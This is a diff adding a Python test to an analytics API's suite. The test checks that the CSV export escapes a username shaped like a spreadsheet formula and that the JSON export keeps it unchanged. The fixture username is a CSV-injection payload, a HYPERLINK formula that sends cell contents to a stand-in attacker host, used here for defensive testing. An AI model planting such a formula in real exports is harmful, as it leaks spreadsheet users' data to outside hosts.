@@ -10,6 +10,9 @@ needs to move time on."""
 from __future__ import annotations
 
 import asyncio
+import csv
+import io
+import json
 import uuid
 from collections.abc import AsyncIterator, Awaitable, Callable
 from datetime import UTC, datetime, timedelta
@@ -756,3 +759,29 @@ async def test_refresh_is_for_editors_and_other_workspaces_are_404(
     ):
         assert answer.status_code == 404, answer.text
     assert other_ws != ws
+
+
+async def test_a_username_that_starts_like_a_formula_is_exported_as_text(
+    api: httpx.AsyncClient, workers: WorkerSets, db: Database
+) -> None:
+    """A platform username is the platform user's to choose: one that a spreadsheet would
+    run as a formula reaches the CSV export as text (a leading ``'``), not as a formula."""
+    owner, ws = await owner_with_workspace(api)
+    name = f'=HYPERLINK("http://evil.example/?{uuid.uuid4().hex[:6]}"&A2,"x")'
+    [account] = await connected(api, db, owner, ws, "x", name)
+    await workers("formula").drain()
+    posts = await ingested(db, [account])
+    [stored] = await rows(db, "SELECT username FROM analytics.accounts WHERE id = :a", a=account)
+    assert stored["username"] == name  # kept as the platform gave it
+
+    params = {"workspace_id": ws, "format": "csv"}
+    exported = await api.get("/api/v1/analytics/export", params=params, headers=owner.headers)
+    assert exported.status_code == 200, exported.text
+    records = list(csv.DictReader(io.StringIO(exported.text)))
+    assert len(records) == sum(p["snapshots"] for p in posts)
+    assert {r["username"] for r in records} == {"'" + name}
+    assert all(r["views"] == "" or r["views"].isdigit() for r in records)  # numbers as numbers
+    # NDJSON is data, not a spreadsheet: the value as it is.
+    params["format"] = "json"
+    lines = await api.get("/api/v1/analytics/export", params=params, headers=owner.headers)
+    assert {json.loads(line)["username"] for line in lines.text.splitlines()} == {name}
